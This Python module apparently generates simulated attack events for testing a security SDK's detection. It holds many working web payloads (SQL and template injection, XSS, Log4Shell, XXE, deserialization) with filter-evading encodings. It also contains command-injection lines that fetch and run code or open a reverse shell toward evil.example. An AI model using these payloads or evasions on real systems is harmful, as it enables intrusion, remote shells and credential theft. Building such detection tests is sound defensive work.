# SPDX-License-Identifier: Apache-2.0
"""Attacks as SDK events: seeds of each class, each in several disguises and places. No randomness."""
import base64
import itertools
import urllib.parse

SEEDS = {
    "sql injection": [
        "' OR 1=1-- -", "admin'--", "1 UNION SELECT NULL,version()-- -", "') OR ('a'='a", "1;DROP TABLE orders--",
        "1' AND SLEEP(5)#", "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64", "' HAVING 1=1--",
        "1' ORDER BY 8-- -", "'||(SELECT table_name FROM information_schema.tables LIMIT 1)||'",
        "1 AND extractvalue(1,concat(0x7e,user()))", "'; EXEC xp_cmdshell('dir')--", "1 AND 1=CONVERT(int,@@version)",
        "-1 UNION ALL SELECT load_file('/etc/passwd'),2", "' OR EXISTS(SELECT * FROM users)-- -", "1';WAITFOR DELAY '0:0:5'--"],
    "nosql, ldap, xpath": [
        "' || this.password.match(/^a/)//", "';return true;var a='", "{\"$ne\": null}", "*)(uid=*))(|(uid=*", "admin)(&)",
        "*)(objectClass=*", "' or count(/*)=1 or 'a'='b", "']|//user/*|a['", "' and string-length(name(/*[1]))=4 or '",
        "' && this.role == 'admin' || 'a'=='b", "x)(|(cn=*"],
    "cross-site scripting": [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "\"><script src=//evil.example></script>",
        "javascript:alert(document.cookie)", "\" onfocus=\"alert(1)\" autofocus x=\"", "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<details open ontoggle=alert(1)>", "';alert(1)//", "<a href=\"javascript:alert(1)\">x</a>", "<body onload=confirm(1)>",
        "<math><a xlink:href=javascript:alert(1)>x", "{{constructor.constructor('alert(1)')()}}", "<object data=\"data:text/html,x\">",
        "<video><source onerror=alert(1)>", "'-alert(1)-'", "<base href=//evil.example/>"],
    "files": [
        "../../../../etc/passwd", "....//....//....//etc/passwd", "/etc/shadow", "..\\..\\..\\windows\\win.ini", "C:\\boot.ini",
        "php://filter/convert.base64-encode/resource=index", "php://input", "phar://a.jpg/b", "expect://id", "file:///etc/hosts",
        "/proc/self/environ", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw==", "/var/log/apache2/access.log", "../../WEB-INF/web.xml"],
    "commands": [
        "; cat /etc/passwd", "| id", "&& whoami", "$(id)", "`id`", "; ping -c 5 127.0.0.1", "|| curl http://evil.example/x | sh",
        "; nc -e /bin/sh 198.51.100.1 4444", "& net user", "| dir C:\\", "; c''at /etc/passwd", "; cat${IFS}/etc/passwd",
        "x; sleep 10", "() { :; }; /bin/bash -c 'id'", "; wget http://evil.example/a -O /tmp/a", "& powershell -enc AAAA", "|uname -a"],
    "server-side requests": [
        "http://169.254.169.254/latest/meta-data/", "http://localhost:8080/admin", "http://127.0.0.1:6379/", "http://[::1]/",
        "http://2130706433/", "http://0x7f000001/", "gopher://127.0.0.1:6379/_x", "dict://localhost:11211/", "http://127.1/",
        "http://metadata.google.internal/computeMetadata/v1/", "file:///etc/passwd", "http://0177.0.0.1/", "http://10.0.0.1/",
        "http://x.oast.fun/", "ldap://198.51.100.1/a"],
    "code and templates": [
        "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{''.__class__.__mro__[1].__subclasses__()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "<#assign x=\"freemarker.template.utility.Execute\"?new()>", "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\")",
        "%{(#_memberAccess['x']=true)}", "<?php system('id');?>", "require('child_process').exec('id')", "{{config.items()}}",
        "eval(base64_decode('cGhwaW5mbygp'))", "{{_self.env.registerUndefinedFilterCallback('exec')}}", "__import__('os').system('id')"],
    "objects": [
        "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQ", "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
        "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\"}", "!!python/object/apply:os.system [id]", "_$$ND_FUNC$$_function(){}()",
        "!ruby/object:Gem::Requirement", "AAEAAAD/////AQAAAAAAAAAMAgAAAF5NaWNyb3NvZnQ", "org.apache.commons.collections.functors.InvokerTransformer",
        "cos\nsystem\n(S'id'\ntR.", "{\"$type\":\"System.Windows.Data.ObjectDataProvider\"}"],
    "log4shell": [
        "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:ldap://evil.example/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
        "${${env:X:-j}ndi:dns://evil.example}", "${jndi:${lower:l}dap://evil.example}"],
    "xml": [
        "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>", "<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\">",
        "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/>", "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://evil.example\">%p;]>"],
}
PATHS = ["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/actuator/env", "/backup.sql", "/manager/html", "/c99.php", "/.aws/credentials",
         "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/.%2e/.%2e/bin/sh", "/%2e%2e/%2e%2e/etc/passwd", "/..;/admin",
         "/static/..%252f..%252fetc/passwd", "/solr/admin/info", "/server-status", "/wp-config.php.bak", "/xmlrpc.php", "/.svn/entries"]
AGENTS = ["sqlmap/1.8", "Mozilla/5.00 (Nikto/2.5)", "Nuclei - scanner", "gobuster/3.6", "feroxbuster/2.10", "WPScan v3", "masscan/1.3", "zgrab/0.x",
          "Fuzz Faster U Fool v2", "dirsearch", "() { :;}; echo x", "${jndi:ldap://evil.example/a}"]


def quoted(text):
    return urllib.parse.quote(text, safe="")


def mixed(text):
    return "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(text))


PLAIN = {"plain": quoted, "double": lambda t: quoted(quoted(t)), "plus": urllib.parse.quote_plus,
         "every byte": lambda t: "".join(f"%{b:02x}" for b in t.encode())}
# What keeps its meaning in other case, with comments for spaces, as entities or escapes.
OF_CLASS = {
    "sql injection": {"case": lambda t: quoted(mixed(t)), "comments": lambda t: quoted(t.replace(" ", "/**/")),
                      "tabs": lambda t: quoted(t.replace(" ", "\t")), "newlines": lambda t: quoted(t.replace(" ", "\n"))},
    "cross-site scripting": {"case": lambda t: quoted(mixed(t)), "entities": lambda t: quoted("".join(f"&#{ord(c)};" for c in t)),
                             "escapes": lambda t: quoted("".join(f"\\u{ord(c):04x}" for c in t)),
                             "base64": lambda t: quoted(base64.b64encode(t.encode()).decode())},
    "files": {"iis": lambda t: quoted(t).replace("%2F", "%u2215").replace("%5C", "%5c"),
              "overlong": lambda t: quoted(t).replace("%2F", "%c0%af")},
}


def request(method, url, **more):
    return {"platform": "python", "request": dict(method=method, url="https://shop.example" + url, **more)}


def carried(text, encode, is_url_only):
    """The places a request has for text. JSON has no use for what only URLs and forms decode."""
    yield request("GET", "/search", query_string="q=" + encode(text))
    yield request("POST", "/form", headers={"Content-Type": "application/x-www-form-urlencoded"}, data="name=" + encode(text))
    inner = text if is_url_only else urllib.parse.unquote(encode(text))
    yield request("POST", "/api", headers={"Content-Type": "application/json"}, data={"comment": {"text": inner}})


def attacks():
    """(class, disguise, event) of all."""
    for kind, seeds in SEEDS.items():
        ways = {**PLAIN, **OF_CLASS.get(kind, {})}
        for seed, (way, encode) in itertools.product(seeds, ways.items()):
            for event in carried(seed, encode, way in ("plus", "iis", "overlong")):
                yield kind, way, event
    for path in PATHS:
        yield "scans", "plain", request("GET", path)
    for agent in AGENTS:
        yield "scans", "plain", request("GET", "/", headers={"User-Agent": agent})
